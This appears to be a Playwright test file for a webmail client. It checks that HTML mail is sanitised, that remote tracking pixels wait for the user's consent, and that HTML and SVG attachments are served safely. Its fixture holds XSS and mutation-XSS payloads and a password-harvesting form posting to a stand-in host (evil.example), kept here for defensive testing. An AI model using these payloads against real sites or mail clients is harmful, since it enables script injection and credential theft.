import type { BrowserContext } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { goTo, messageFrom } from './pages/conversation.ts'
import { say } from './stage/words.ts'

const scripts = `
  <p>Look at this offer</p>
  <script>top.document.title = 'caught'</script>
  <img src="x" onerror="top.document.title = 'caught'">
  <svg onload="top.document.title = 'caught'"><animate onbegin="top.document.title = 'caught'"></svg>
  <a href="javascript:top.document.title='caught'">Click here</a>
  <iframe srcdoc="<script>top.document.title='caught'</script>"></iframe>
  <form action="https://evil.example/take"><input name="password" autofocus><button>Sign in</button></form>
  <meta http-equiv="refresh" content="0;url=https://evil.example/away">
  <base href="https://evil.example/">
  <object data="https://evil.example/plugin"></object>
  <div style="position:fixed;inset:0;background:url(https://evil.example/style.png)">Over everything</div>
  <link rel="stylesheet" href="https://evil.example/style.css"><style>@import url(https://evil.example/more.css)</style>
  <math><mtext><table><mglyph><style><img src=x onerror="top.document.title='caught'"></style></mglyph></table></mtext></math>`

test('no script of a mail runs and nothing outside is asked for', async ({ brand, mara, writes, open }) => {
  const { id } = await writes({ subject: 'A special offer', html: scripts })
  const page = await open(brand.owner)
  const asked = outsideRequests(page.context())
  await goTo(page, `/inbox/open/${id}`)
  const mail = messageFrom(page, mara.name).frameLocator('iframe')
  await expect(mail.getByText('Look at this offer')).toBeVisible()
  await expect(mail.locator('script, form, input, iframe, object, meta[http-equiv=refresh]')).toHaveCount(0)
  await mail.getByText('Click here').click()

  // What stands at an edge of the page is still ours: nothing of the mail lies over it.
  await page.getByRole('button', { name: say('inbox.reply') }).click()
  await expect(page).toHaveTitle(/A special offer/)
  expect(new URL(page.url()).pathname).toBe(`/inbox/open/${id}`)
  expect(asked).toEqual([])
})

test('pictures from outside are loaded only when somebody asks for them', async ({
  brand,
  mara,
  writes,
  open,
}) => {
  const pixel = 'https://tracker.example/pixel.png?who=mara'
  const { id } = await writes({ subject: 'With a pixel', html: `<p>Hello</p><img src="${pixel}">` })
  const page = await open(brand.owner)
  const asked = outsideRequests(page.context())
  await page.route('https://tracker.example/**', (route) =>
    route.fulfill({ contentType: 'image/gif', body: picture }),
  )
  await goTo(page, `/inbox/open/${id}`)
  await expect(messageFrom(page, mara.name).frameLocator('iframe').getByText('Hello')).toBeVisible()
  expect(asked).toEqual([])
  await messageFrom(page, mara.name)
    .getByRole('button', { name: say('inbox.showImages') })
    .click()
  await expect.poll(() => asked).toEqual([pixel])
})

test('a picture that came with the mail is shown in its place', async ({ brand, mara, writes, open }) => {
  const attachments = [{ filename: 'frame.gif', content: picture, contentType: 'image/gif', cid: 'frame@x' }]
  const html = '<p>My frame</p><img src="cid:frame@x" alt="the frame">'
  const { id } = await writes({ subject: 'Broken frame', html, attachments })
  const page = await open(brand.owner)
  await goTo(page, `/inbox/open/${id}`)
  const image = messageFrom(page, mara.name).frameLocator('iframe').getByRole('img', { name: 'the frame' })
  await expect(image).toHaveJSProperty('naturalWidth', 1)
})

test('a file that could act is only ever downloaded, and can do nothing where it is opened', async ({
  brand,
  mara,
  writes,
  open,
}) => {
  const page = '<script>document.title = "caught"</script>'
  const attachments = [
    { filename: 'invoice.html', content: page, contentType: 'text/html' },
    {
      filename: 'logo.svg',
      content: `<svg xmlns="http://www.w3.org/2000/svg">${page}</svg>`,
      contentType: 'image/svg+xml',
    },
  ]
  const { id } = await writes({ subject: 'Your invoice', attachments })
  const ada = await open(brand.owner)
  await goTo(ada, `/inbox/open/${id}`)
  const message = messageFrom(ada, mara.name)
  for (const { filename } of attachments) {
    const link = message.getByRole('link', { name: filename })
    const address = (await link.getAttribute('href')) ?? ''
    for (const query of ['', '?inline=true']) {
      const answer = await ada.request.get(address + query)
      expect(answer.headers()['content-disposition'], filename).toContain('attachment')
      expect(answer.headers()['content-security-policy'], filename).toContain('sandbox')
      expect(answer.headers()['x-content-type-options'], filename).toBe('nosniff')
    }
    const download = ada.waitForEvent('download')
    await link.click()
    expect((await download).suggestedFilename()).toBe(filename)
  }
})

const picture = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

/** What a browser asks of anybody but our own server, from now on. */
function outsideRequests(context: BrowserContext): string[] {
  const asked: string[] = []
  context.on('request', (request) => {
    if (!/^(https?:\/\/localhost:|data:|blob:|about:)/.test(request.url())) asked.push(request.url())
  })
  return asked
}
